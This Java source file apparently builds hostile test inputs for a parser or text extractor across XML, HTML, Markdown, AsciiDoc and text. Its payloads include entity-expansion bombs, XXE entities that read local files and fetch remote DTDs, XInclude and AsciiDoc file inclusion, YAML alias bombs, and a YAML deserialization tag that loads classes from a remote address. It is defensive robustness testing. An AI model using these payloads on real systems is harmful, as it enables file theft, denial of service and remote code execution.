package io.github.crossread.hostile;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** XML, web pages, Markdown, AsciiDoc and plain text. */
final class MarkupFiles {

  private static final String SENTENCE =
      "The wall of the old harbour fell on Monday, the mayor said.";
  private static final int MANY = 100_000;

  private MarkupFiles() {}

  static List<HostileFile> xml(Lures lures) {
    String file = lures.fileAddress();
    String address = lures.address().toString();
    return List.of(
        HostileFile.of("entities that grow to gigabytes", "laughs.xml", laughs()),
        HostileFile.of(
            "one entity of 100 KB ten thousand times",
            "quadratic.xml",
            "<!DOCTYPE nitf [<!ENTITY a \""
                + "wall ".repeat(20_000)
                + "\">]>"
                + nitf("&a;".repeat(10_000))),
        HostileFile.of(
            "an entity that is a file",
            "file.xml",
            "<!DOCTYPE nitf [<!ENTITY a SYSTEM \"" + file + "\">]>" + nitf("&a;")),
        HostileFile.of(
            "a DTD at an address",
            "dtd.xml",
            "<!DOCTYPE nitf SYSTEM \"" + address + "nitf.dtd\">" + nitf(SENTENCE)),
        HostileFile.of(
            "a parameter entity at an address",
            "parameter.xml",
            "<!DOCTYPE nitf [<!ENTITY % a SYSTEM \"" + address + "\"> %a;]>" + nitf(SENTENCE)),
        HostileFile.of(
            "XInclude of a file",
            "include.xml",
            nitf(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                    + file
                    + "\"/>"
                    + SENTENCE)),
        HostileFile.of(
            "a style sheet and a schema at an address",
            "style.xml",
            "<?xml-stylesheet href=\""
                + address
                + "a.xsl\" type=\"text/xsl\"?><nitf xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " xsi:noNamespaceSchemaLocation=\""
                + address
                + "a.xsd\"><body><body.content><p>"
                + SENTENCE
                + "</p></body.content></body></nitf>"),
        HostileFile.of(
            "100,000 elements deep",
            "deep.xml",
            "<nitf>" + "<p>".repeat(MANY) + SENTENCE + "</p>".repeat(MANY) + "</nitf>"),
        HostileFile.of("5 million elements", "many.xml", nitf("<p/>".repeat(5_000_000))),
        HostileFile.of(
            "an element with 100,000 attributes",
            "attributes.xml",
            nitf("<p" + attributes() + "/>")),
        HostileFile.of("10,000 articles in a feed", "feed.rss", feed(10_000)),
        HostileFile.of(
            "a feed's page in markup 100,000 deep",
            "deep.rss",
            "<rss><channel><item><title>Wall</title><description><![CDATA["
                + "<div>".repeat(MANY)
                + (SENTENCE + " ").repeat(20)
                + "]]></description></item></channel></rss>"));
  }

  private static String laughs() {
    StringBuilder dtd = new StringBuilder("<!DOCTYPE nitf [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 40; i++) {
      dtd.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
    }
    return dtd + "]>" + nitf("&a39;");
  }

  private static String nitf(String content) {
    return "<nitf><body><body.content><p>" + content + "</p></body.content></body></nitf>";
  }

  private static String attributes() {
    StringBuilder attributes = new StringBuilder();
    for (int i = 0; i < MANY; i++) {
      attributes.append(" a").append(i).append("=\"b\"");
    }
    return attributes.toString();
  }

  private static String feed(int articles) {
    return "<rss><channel><title>Courier</title>"
        + IntStream.range(0, articles)
            .mapToObj(
                i ->
                    "<item><title>Wall %1$d</title><description>Wall %1$d fell. %2$s</description></item>"
                        .formatted(i, (SENTENCE + " ").repeat(8)))
            .collect(Collectors.joining())
        + "</channel></rss>";
  }

  static List<HostileFile> pages(Lures lures) {
    String address = lures.address().toString();
    return List.of(
        HostileFile.of("100,000 elements deep", "deep.html", "<div>".repeat(MANY) + paragraph()),
        HostileFile.of(
            "200,000 elements that never end", "open.html", "<b><i>".repeat(MANY) + paragraph()),
        HostileFile.of(
            "10,000 tables in each other",
            "tables.html",
            "<table><tr><td>".repeat(10_000) + paragraph()),
        HostileFile.of(
            "formatting that is opened anew in each of 50,000 paragraphs",
            "adoption.html",
            "<a><b><i><u><s>".repeat(20) + "<p>wall</b>".repeat(50_000)),
        HostileFile.of(
            "an element with 100,000 attributes",
            "attributes.html",
            "<p" + attributes() + ">" + paragraph()),
        HostileFile.of("4 MB of ampersands", "ampersands.html", "<p>" + "&".repeat(4_000_000)),
        HostileFile.of("4 MB of less-than signs", "less.html", "<p>" + "<".repeat(4_000_000)),
        HostileFile.of(
            "a comment that never ends", "comment.html", "<p>a<!--" + "-".repeat(4_000_000)),
        HostileFile.of(
            "linked data 100,000 deep",
            "data.html",
            "<script type=\"application/ld+json\">"
                + "[{\"a\":".repeat(MANY)
                + "</script>"
                + paragraph()),
        HostileFile.of(
            "pictures, styles, frames and scripts at an address",
            "fetch.html",
            ("<!DOCTYPE html><html manifest=\"%1$sm\"><head><base href=\"%1$s\"><meta http-equiv=refresh"
                    + " content=\"0; url=%1$s\"><link rel=stylesheet href=\"%1$ss\"><script"
                    + " src=\"%1$sj\"></script><style>@import url(%1$si);</style></head><body><img"
                    + " src=\"%1$sp\"><iframe src=\"%1$sf\"></iframe><object data=\"%1$so\"></object>%2$s")
                .formatted(address, paragraph())),
        HostileFile.of(
            "a picture and a frame that are a file",
            "file.html",
            "<img src=\"%1$s\"><iframe src=\"%1$s\"></iframe><object data=\"%1$s\"></object>"
                    .formatted(lures.fileAddress())
                + paragraph()));
  }

  private static String paragraph() {
    return "<p>" + (SENTENCE + " ").repeat(5) + "</p>";
  }

  static List<HostileFile> texts(Lures lures) {
    String file = lures.file().toString();
    String address = lures.address().toString();
    return List.of(
        HostileFile.of("quotations 100,000 deep", "deep.md", ">".repeat(MANY) + SENTENCE),
        HostileFile.of("lists 20,000 deep", "lists.md", "- ".repeat(20_000) + SENTENCE),
        HostileFile.of("half a million opening brackets", "brackets.md", "[".repeat(499_000)),
        HostileFile.of("links in links", "links.md", "[a](".repeat(124_000)),
        HostileFile.of("half a million stars", "stars.md", "*a **a ".repeat(70_000)),
        HostileFile.of("half a million back-quotes of all lengths", "ticks.md", ticks()),
        HostileFile.of("20,000 definitions, each used", "definitions.md", definitions()),
        HostileFile.of("40,000 entities", "entities.md", "&copy;&#0; ".repeat(40_000)),
        HostileFile.of(
            "pictures at an address and of a file",
            "fetch.md",
            "![a](" + address + "p) ![b](" + lures.fileAddress() + ")\n\n" + SENTENCE),
        HostileFile.of(
            "inclusion of a file and of an address",
            "include.adoc",
            "= Wall\n\n"
                + SENTENCE
                + "\n\ninclude::"
                + file
                + "[]\n\ninclude::"
                + address
                + "[]\n"),
        HostileFile.of("blocks 20,000 deep", "deep.adoc", blocks()),
        HostileFile.of(
            "conditions 100,000 deep", "ifdef.adoc", "ifdef::a[]\n".repeat(MANY) + SENTENCE),
        HostileFile.of(
            "attributes that name each other",
            "attributes.adoc",
            ":a: {b}{b}\n:b: {a}{a}\n\n{a}\n"),
        HostileFile.of("one word of 4 MB", "word.txt", "x".repeat(4_000_000)),
        HostileFile.of(
            "a sentence of 60,000 words", "sentence.txt", "wall harbour stone ".repeat(20_000)),
        HostileFile.of(
            "100,000 sentences that are one", "same.txt", (SENTENCE + "\n").repeat(MANY)),
        HostileFile.of(
            "1,900 sentences that are one", "nearly.txt", (SENTENCE + "\n\n").repeat(1_900)),
        HostileFile.of("400 KB of initials", "initials.txt", "A. B. ".repeat(66_000)),
        HostileFile.of("400 KB of figures", "figures.txt", "1,000 2.5 million ".repeat(22_000)),
        HostileFile.of("400 KB of figures without blanks", "digits.txt", "1,".repeat(199_000)),
        HostileFile.of("400 KB of quotation marks", "quotes.txt", "\"a\" “b ‘c’ ”d".repeat(28_000)),
        HostileFile.of("400 KB of names", "names.txt", "Jo Odell Van Der Berg ".repeat(18_000)),
        HostileFile.of("400 KB of dashes", "dashes.txt", "a - b -- c — ".repeat(30_000)),
        HostileFile.of(
            "400 KB of commas and brackets", "commas.txt", "a, (b), [c], ".repeat(30_000)),
        HostileFile.of("400 KB of speakers", "said.txt", "said Odell, who said ".repeat(19_000)),
        HostileFile.of(
            "a label of capitals without end",
            "capitals.txt",
            SENTENCE + "\n\n" + "A".repeat(150) + "!:\n\n" + SENTENCE),
        HostileFile.of(
            "comments, and no page behind them",
            "comments.html",
            "<!---->".repeat(1_100) + SENTENCE),
        HostileFile.of(
            "links between names without end",
            "links.txt",
            SENTENCE
                + "\n\nReuters and & & & & & & & & & & & & & & & & & & & & & & & & & & & & & & & & AP x\n"),
        HostileFile.of(
            "a stamp of figures without end",
            "stamp.txt",
            SENTENCE + "\n\nUpdated on " + "1 ".repeat(100_000) + "x"),
        HostileFile.of("lines like a mail's head", "head.txt", "Aa: b\n".repeat(2_000)),
        HostileFile.of(
            "buttons without end",
            "buttons.txt",
            SENTENCE + "\n\nShare" + " | Tweet".repeat(40_000) + " x"),
        HostileFile.of(
            "agencies without end",
            "agencies.txt",
            SENTENCE + "\n\nReuters" + "/AP".repeat(60_000) + " x"),
        HostileFile.of("4 MB of blanks in a line", "blanks.txt", "a" + " ".repeat(4_000_000) + "b"),
        HostileFile.of(
            "marks of direction and accents",
            "marks.txt",
            "\u202Ee\u0301\u0301\u2066".repeat(60_000)),
        HostileFile.of(
            "front matter that never ends", "front.md", "---\na: b\n" + "c: d\n".repeat(MANY)),
        HostileFile.of(
            "aliases that grow to gigabytes",
            "aliases.md",
            "---\n" + aliases() + "---\n" + SENTENCE),
        HostileFile.of(
            "a tag that makes an object",
            "tag.md",
            "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
                + address
                + "\"]]]]\n---\n"
                + SENTENCE));
  }

  private static String ticks() {
    StringBuilder ticks = new StringBuilder();
    for (int i = 1; i < 980; i++) {
      ticks.append("`".repeat(i)).append('a');
    }
    return ticks.toString();
  }

  private static String definitions() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 20_000; i++) {
      text.append("[a%d]: /b\n".formatted(i));
    }
    return text.append("\n").append("[a1][a2] ".repeat(20_000)).toString();
  }

  private static String blocks() {
    StringBuilder text = new StringBuilder();
    for (int i = 4; i < 500; i++) {
      text.append("=".repeat(i)).append('\n');
    }
    return text.append(SENTENCE).toString();
  }

  static String aliases() {
    StringBuilder yaml = new StringBuilder("a0: &a0 [wall, wall]\n");
    for (int i = 1; i < 40; i++) {
      yaml.append("a%1$d: &a%1$d [*a%2$d, *a%2$d, *a%2$d]\n".formatted(i, i - 1));
    }
    return yaml.toString();
  }
}
